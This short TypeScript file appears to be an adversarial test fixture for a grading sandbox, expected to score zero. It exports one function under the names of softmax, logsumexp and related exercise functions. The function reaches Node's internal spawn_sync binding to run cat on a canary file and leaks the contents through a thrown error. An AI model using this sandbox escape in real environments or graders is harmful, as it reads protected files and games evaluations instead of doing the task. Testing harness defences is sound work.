// At most 0 points. Asks Node for its inner bindings.
const attack = () => {
  const bind = Reflect.get(process, 'binding') as (name: string) => { spawn(options: object): unknown };
  throw new Error(JSON.stringify(bind('spawn_sync').spawn({ file: '/bin/cat', args: ['cat', '__CANARY_FILE__'], stdio: [] })));
};

export {
  attack as softmaxNaive, attack as softmaxStable, attack as softmaxDim, attack as logsumexp, attack as logSoftmax,
  attack as sigmoidFromSoftmax, attack as predictClass, attack as logitsFor, attack as shiftPredictions,
};
